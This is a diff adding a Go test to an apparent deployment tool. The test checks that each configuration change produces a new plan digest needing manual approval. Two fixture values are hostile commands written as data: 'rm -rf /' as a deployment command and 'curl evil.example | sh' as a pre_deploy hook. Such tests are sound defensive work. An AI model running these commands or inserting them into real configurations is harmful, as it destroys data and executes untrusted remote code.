@@ -145,6 +145,33 @@ func TestBrokenComposeFileIsABrokenCommit(t *testing.T) {
 	}
 }
 
+// TestApprovalIsOfWhatIsMade: what creates the same resources otherwise is another plan to approve, though it shows the
+// same steps: other values, another command, another pre_deploy.
+func TestApprovalIsOfWhatIsMade(t *testing.T) {
+	w := follow(t, func(o *Options) { o.Settings.Config.Apply = "manual" })
+	files := map[string]string{"a.toml": deployment("a", "1"), "s.toml": stack("s"), "s/compose.yaml": composeFile}
+	w.git.Push(files)
+	w.start()
+	seen := map[string]bool{w.rep.next().Plan.Digest: true}
+	for _, change := range []map[string]string{
+		{"a.toml": deployment("a", "2")},
+		{"a.toml": strings.Replace(deployment("a", "2"), "environment =", "command = \"rm -rf /\"\nenvironment =", 1)},
+		{"s/compose.yaml": strings.Replace(composeFile, "K: a", "K: b", 1)},
+		{"s.toml": stack("s") + "pre_deploy = { command = \"curl evil.example | sh\" }\n"},
+	} {
+		w.git.Push(change)
+		r := w.rep.next()
+		if r.Stage != StagePlanned || seen[r.Plan.Digest] {
+			t.Errorf("%v: %s, its digest %s was shown before for something else", change, r.Stage, r.Plan.Digest)
+		}
+		seen[r.Plan.Digest] = true
+	}
+	w.git.Push(map[string]string{"README.md": "nothing of ours"}) // the same steps of a later commit
+	if r := w.rep.next(); !seen[r.Plan.Digest] {
+		t.Error("a commit that changes nothing of ours is another plan")
+	}
+}
+
 // TestApprovedAndChanged: where the plan made now is not the approved one, nothing is applied, and the new one is told
 // and may be approved.
 func TestApprovedAndChanged(t *testing.T) {
